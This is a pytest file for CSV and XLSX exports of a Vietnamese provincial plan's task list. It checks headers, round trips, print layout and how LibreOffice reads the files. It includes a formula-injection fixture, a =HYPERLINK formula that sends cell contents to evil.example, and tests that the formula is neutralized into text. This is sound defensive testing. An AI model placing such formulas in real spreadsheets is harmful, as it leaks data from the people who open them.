"""CSV and XLSX exports of the real 27 tasks, read back (csv, openpyxl, LibreOffice) and compared row by row;
the workbook printed to PDF by LibreOffice; formula injection through task text."""

import csv
import io
import re
import zipfile
from datetime import date
from pathlib import Path

import pytest
from openpyxl import load_workbook
from office import TIMES, font_families, libreoffice, page_size, pdf_of, squeeze

from assistant.documents import load_corpus
from assistant.exports import HEADERS, TITLE, export_filename, neutralize, tasks_csv, tasks_xlsx
from assistant.structure import parse_sections
from assistant.successors import Successors, load_successors
from assistant.tasks import TaskRecord, build_tasks, parse_timeframe

CORPUS = Path(__file__).resolve().parent.parent / "corpus"
AS_OF = date(2026, 1, 1)
HEADER_ROW = 4  # title, status date, blank, header
INJECTION = '=HYPERLINK("http://evil.example/?q="&A1,"Bấm vào đây")'


@pytest.fixture(scope="module")
def tasks() -> list[TaskRecord]:
    documents = load_corpus(CORPUS)
    return build_tasks([s for d in documents if d.loaded for s in parse_sections(d.meta.id, d.text)])


@pytest.fixture(scope="module")
def successors() -> Successors:
    return load_successors(CORPUS)


@pytest.fixture
def hostile() -> list[TaskRecord]:
    """Task text as an uploaded document could carry it: every cell starts like a formula."""
    return [TaskRecord(doc_id="@SUM(1+1)", section="-2+3", summary=INJECTION, lead=["+Sở Y tế"],
                       coordinators=["=1+2", "\tSở Tài chính"], timeframe=parse_timeframe("\rThường xuyên"))]


# corpus/agencies.toml, written out: the plan's name → today's body.
TODAY = {"Sở Thông tin và Truyền thông": "Sở Khoa học và Công nghệ", "Sở Kế hoạch và Đầu tư": "Sở Tài chính",
         "Sở Nông nghiệp và Phát triển nông thôn": "Sở Nông nghiệp và Môi trường",
         "Sở Tài nguyên và Môi trường": "Sở Nông nghiệp và Môi trường", "Sở Giao thông vận tải": "Sở Xây dựng",
         "Sở Lao động – Thương binh và Xã hội": "Sở Nội vụ",
         "UBND các huyện, thị xã, thành phố": "UBND các xã, phường, đặc khu"}


def today(names: list[str]) -> str:
    return "; ".join(dict.fromkeys(TODAY.get(name, name) for name in names))


def expected_rows(tasks: list[TaskRecord], status: dict[str, str]) -> list[list[str]]:
    """What each row must say, written out from the record itself, as text."""
    return [[t.doc_id, t.section, t.summary, "; ".join(t.lead), today(t.lead), "; ".join(t.coordinators),
             today(t.coordinators), t.timeframe.text, str(t.timeframe.start or ""), str(t.timeframe.end or ""),
             status[t.section]] for t in tasks]


# Status on 2026-01-01 of the plan's five kinds of timeframe.
STATUS_2026 = {"Thường xuyên": "Thường xuyên", "Năm 2022-2030": "Đang thực hiện", "2022-2030": "Đang thực hiện",
               "Năm 2025-2030": "Đang thực hiện", "giai đoạn 2021 – 2025": "Đã hết thời hạn",
               "Năm 2021 và những năm tiếp theo": "Không thời hạn kết thúc"}


@pytest.fixture(scope="module")
def status_2026(tasks) -> dict[str, str]:
    return {t.section: STATUS_2026[t.timeframe.text] for t in tasks}


def test_headers_are_vietnamese_with_todays_names_beside_the_plans():
    assert HEADERS == ("Văn bản", "Mục", "Nhiệm vụ", "Đơn vị chủ trì (theo Kế hoạch)", "Cơ quan chủ trì hiện nay",
                       "Đơn vị phối hợp (theo Kế hoạch)", "Cơ quan phối hợp hiện nay", "Thời gian thực hiện",
                       "Năm bắt đầu", "Năm kết thúc", "Trạng thái")


def read_csv(text: str, sep: str = ",") -> list[list[str]]:
    assert text.startswith("\ufeff")  # Excel needs the BOM to read UTF-8
    return list(csv.reader(io.StringIO(text[1:]), delimiter=sep))


def test_csv_round_trip(tasks, successors, status_2026):
    text = tasks_csv(tasks, successors, AS_OF)
    assert text.startswith('\ufeff"Văn bản","Mục","Nhiệm vụ",')  # every field quoted (OWASP)
    rows = read_csv(text)
    assert rows[0] == list(HEADERS)
    assert len(rows) == 1 + 27
    assert rows[1:] == expected_rows(tasks, status_2026)


def test_semicolon_csv_for_vietnamese_excel(tasks, successors):
    """Excel with Vietnamese regional settings splits on ";": same rows, and commas inside names stay put."""
    text = tasks_csv(tasks, successors, AS_OF, sep=";")
    assert text.splitlines()[0] == "\ufeff" + ";".join(f'"{h}"' for h in HEADERS)
    assert read_csv(text, ";") == read_csv(tasks_csv(tasks, successors, AS_OF))


@pytest.mark.parametrize(("section", "lead", "lead_today", "coordinators_today", "start", "end", "status"), [
    ("II.1", "Sở Thông tin và Truyền thông", "Sở Khoa học và Công nghệ",
     "Báo Quảng Ngãi; Đài Phát thanh và Truyền hình Quảng Ngãi", "", "", "Thường xuyên"),
    ("II.3.đ", "Sở Xây dựng", "Sở Xây dựng", "Các sở, ngành liên quan", "2021", "2025", "Đã hết thời hạn"),
    ("II.4.d", "Sở Kế hoạch và Đầu tư; Ban Quản lý Khu kinh tế Dung Quất và các Khu công nghiệp Quảng Ngãi",
     "Sở Tài chính; Ban Quản lý Khu kinh tế Dung Quất và các Khu công nghiệp Quảng Ngãi",
     "Sở Công Thương; Sở Khoa học và Công nghệ; các sở, ngành liên quan", "2021", "", "Không thời hạn kết thúc"),
    ("II.5.i", ("Sở Giao thông vận tải; Sở Văn hóa, Thể thao và Du lịch; "
                "Ngân hàng nhà nước Việt Nam - Chi nhánh Quảng Ngãi"),
     "Sở Xây dựng; Sở Văn hóa, Thể thao và Du lịch; Ngân hàng nhà nước Việt Nam - Chi nhánh Quảng Ngãi",
     None, "2022", "2030", "Đang thực hiện"),
    ("II.3.c", "Sở Tài nguyên và Môi trường", "Sở Nông nghiệp và Môi trường",
     "Các sở, ban, ngành; UBND các xã, phường, đặc khu; các xã ven biển có liên quan", "2022", "2030",
     "Đang thực hiện"),
])
def test_csv_literal_rows(tasks, successors, section, lead, lead_today, coordinators_today, start, end, status):
    text = tasks_csv(tasks, successors, AS_OF)
    row = {r["Mục"]: r for r in csv.DictReader(io.StringIO(text[1:]))}[section]
    assert (row["Đơn vị chủ trì (theo Kế hoạch)"], row["Cơ quan chủ trì hiện nay"], row["Năm bắt đầu"],
            row["Năm kết thúc"], row["Trạng thái"]) == (lead, lead_today, start, end, status)
    if coordinators_today:
        assert row["Cơ quan phối hợp hiện nay"] == coordinators_today


def test_csv_status_follows_as_of(tasks, successors):
    rows = list(csv.DictReader(io.StringIO(tasks_csv(tasks, successors, date(2021, 6, 4))[1:])))
    assert {r["Mục"]: r["Trạng thái"] for r in rows}["II.2.a"] == "Chưa bắt đầu"


def test_csv_quotes_commas_and_quotes(successors):
    task = TaskRecord(doc_id="83/KH-UBND", section="X", summary='Nhiệm vụ "mẫu", có dấu phẩy', lead=["Sở Y tế"],
                      coordinators=["Các sở, ngành"], timeframe=parse_timeframe("Khi có yêu cầu"))
    text = tasks_csv([task], successors, AS_OF)
    assert text.splitlines()[1] == ('"83/KH-UBND","X","Nhiệm vụ ""mẫu"", có dấu phẩy","Sở Y tế","Sở Y tế",'
                                    '"Các sở, ngành","Các sở, ngành","Khi có yêu cầu","","","Không rõ"')


@pytest.mark.parametrize(("value", "safe"), [
    (INJECTION, "'" + INJECTION), ("+84 255", "'+84 255"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\tx", "'\tx"), ("\rx", "'\rx"), ("Sở Y tế", "Sở Y tế"), ("", ""), ("a=b", "a=b"),
])
def test_neutralize_follows_owasp(value, safe):
    assert neutralize(value) == safe


def test_csv_neutralizes_every_formula_cell(hostile, successors):
    row = read_csv(tasks_csv(hostile, successors, AS_OF))[1]
    assert row[:8] == ["'@SUM(1+1)", "'-2+3", "'" + INJECTION, "'+Sở Y tế", "'+Sở Y tế", "'=1+2; \tSở Tài chính",
                       "'=1+2; \tSở Tài chính", "'\rThường xuyên"]


def test_libreoffice_reads_the_csv_formula_as_text(tmp_path, hostile, successors):
    """Opened in Calc, the neutralized cell is a text cell; the same CSV without the quote is a live link."""
    source = tmp_path / "hostile.csv"
    source.write_text(tasks_csv(hostile, successors, AS_OF), encoding="utf-8")
    cell = load_workbook(libreoffice(source, "xlsx", tmp_path / "profile", "CSV:44,34,76,1")).active["C2"]
    assert (cell.data_type, cell.value) == ("s", "'" + INJECTION)
    source.write_text(source.read_text(encoding="utf-8").replace("'=HYPERLINK", "=HYPERLINK"), encoding="utf-8")
    cell = load_workbook(libreoffice(source, "xlsx", tmp_path / "profile", "CSV:44,34,76,1")).active["C2"]
    assert cell.data_type == "f"  # the attack the quote prevents is real


def sheet_rows(data: bytes) -> list[tuple]:
    sheet = load_workbook(io.BytesIO(data)).active
    return list(sheet.iter_rows(min_row=HEADER_ROW, values_only=True))


def test_xlsx_round_trip(tasks, successors, status_2026):
    workbook = load_workbook(io.BytesIO(tasks_xlsx(tasks, successors, AS_OF)))
    assert workbook.sheetnames == ["Nhiệm vụ"]
    sheet = workbook["Nhiệm vụ"]
    assert sheet["A1"].value == TITLE == "DANH SÁCH NHIỆM VỤ THEO KẾ HOẠCH SỐ 83/KH-UBND"
    assert sheet["A2"].value == "Trạng thái tính đến ngày 01/01/2026"
    rows = sheet_rows(tasks_xlsx(tasks, successors, AS_OF))
    assert rows[0] == HEADERS
    assert [[("" if v is None else v) for v in row] for row in rows[1:]] == expected_rows(tasks, status_2026)
    assert sheet.freeze_panes == f"C{HEADER_ROW + 1}"
    assert all(cell.font.bold and cell.font.name == "Times New Roman" for cell in sheet[HEADER_ROW])
    assert workbook.properties.title == TITLE and workbook.properties.language == "vi-VN"


def test_xlsx_caption_names_the_filter(tasks, successors):
    sheet = load_workbook(io.BytesIO(tasks_xlsx(tasks[:2], successors, AS_OF, "Cơ quan: Sở Y tế"))).active
    assert sheet["A2"].value == "Trạng thái tính đến ngày 01/01/2026 — Cơ quan: Sở Y tế"


def test_xlsx_prints_a4_landscape_one_page_wide_with_repeated_header(tasks, successors):
    sheet = load_workbook(io.BytesIO(tasks_xlsx(tasks, successors, AS_OF))).active
    setup = sheet.page_setup
    assert (setup.orientation, int(setup.paperSize), setup.fitToWidth, setup.fitToHeight) == ("landscape", 9, 1, 0)
    assert sheet.sheet_properties.pageSetUpPr.fitToPage
    assert sheet.print_title_rows == f"${HEADER_ROW}:${HEADER_ROW}"
    heights = {row: sheet.row_dimensions[row].height for row in range(HEADER_ROW + 1, sheet.max_row + 1)}
    short, long = heights[HEADER_ROW + 8], heights[HEADER_ROW + 9]  # II.3.đ (51 chars) and II.4.a (461)
    assert 20 < short < long and long > 100  # rows grow with their wrapped text


def test_every_xlsx_cell_is_text_never_a_formula(hostile, tasks, successors):
    for data in (tasks_xlsx(hostile, successors, AS_OF), tasks_xlsx(tasks, successors, AS_OF)):
        sheet = load_workbook(io.BytesIO(data)).active
        cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
        assert {cell.data_type for cell in cells} == {"s"}
        sheet_xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
        assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    assert sheet_rows(tasks_xlsx(hostile, successors, AS_OF))[1][2] == INJECTION  # stored exactly, as text


def test_libreoffice_shows_the_formula_as_text(tmp_path, hostile, successors):
    source = tmp_path / "hostile.xlsx"
    source.write_bytes(tasks_xlsx(hostile, successors, AS_OF))
    csv_path = libreoffice(source, "csv:Text - txt - csv (StarCalc):44,34,76,1", tmp_path / "profile")
    rows = list(csv.reader(io.StringIO(csv_path.read_text(encoding="utf-8-sig"))))
    assert rows[HEADER_ROW][2] == INJECTION and "Bấm vào đây" != rows[HEADER_ROW][2]


def test_empty_task_list_has_only_headers(successors):
    assert tasks_csv([], successors, AS_OF) == "\ufeff" + ",".join(f'"{h}"' for h in HEADERS) + "\r\n"
    assert sheet_rows(tasks_xlsx([], successors, AS_OF)) == [HEADERS]


def test_file_names_carry_the_status_date():
    assert export_filename(AS_OF, "xlsx") == "nhiem-vu-ke-hoach-83-2026-01-01.xlsx"


def test_libreoffice_reads_the_xlsx(tmp_path, tasks, successors, status_2026):
    """The workbook opens in LibreOffice Calc (headless) and its CSV has the same rows, diacritics intact."""
    source = tmp_path / "nhiem-vu.xlsx"
    source.write_bytes(tasks_xlsx(tasks, successors, AS_OF))
    csv_path = libreoffice(source, "csv:Text - txt - csv (StarCalc):44,34,76,1", tmp_path / "profile")
    rows = list(csv.reader(io.StringIO(csv_path.read_text(encoding="utf-8-sig"))))
    assert rows[HEADER_ROW - 1] == list(HEADERS)
    assert rows[HEADER_ROW:] == expected_rows(tasks, status_2026)


def test_xlsx_printed_by_libreoffice(tmp_path, tasks, successors):
    """A4 landscape in Times (or its metric twin), every page one page wide with the whole header row, page 1
    holding the title and every column, the numbered footer agreeing with the page count."""
    pdf = pdf_of(tasks_xlsx(tasks, successors, AS_OF), "nhiem-vu.xlsx", tmp_path)
    pages = [page.extract_text() for page in pdf.pages]
    assert all(page_size(pdf, n) == (841.9, 595.3) for n in range(len(pages)))
    assert font_families(pdf) <= TIMES
    assert 2 <= len(pages) <= 5  # 27 tasks, the longest 461 characters: several rows a page
    for number, text in enumerate(pages, 1):
        assert [h for h in HEADERS if squeeze(h) not in squeeze(text)] == [], f"page {number}: header incomplete"
        assert f"Trang {number}/{len(pages)}" in text
    assert "DANH SÁCH NHIỆM VỤ" in pages[0] and "Trạng thái tính đến ngày 01/01/2026" in pages[0]
    first = pages[0]
    statuses = len(re.findall("Thường xuyên|Đang thực hiện|Đã hết thời hạn|Không thời hạn kết thúc", first))
    sections = re.findall(r"\bII\.\d(?:\.\w)?\b", first)
    assert sections[:2] == ["II.1", "II.2.a"] and statuses >= len(sections)  # the last column printed for each row
    assert squeeze("Sở Khoa học và Công nghệ") in squeeze(first)  # "Cơ quan chủ trì hiện nay" of II.1
    assert "II.6" in pages[-1]


def test_control_characters_in_a_filter_do_not_break_the_workbook(answerer) -> None:
    """Found by schemathesis: a search typed with a form feed made /api/tasks.xlsx a 500."""
    body = tasks_xlsx(answerer.index.tasks, Successors([]), date(2026, 1, 1), caption="Từ khóa: “3.\x0c\x1fô”")
    sheet = load_workbook(io.BytesIO(body)).active
    assert any("Từ khóa: “3.ô”" in str(cell.value) for row in sheet.iter_rows(max_row=3) for cell in row)
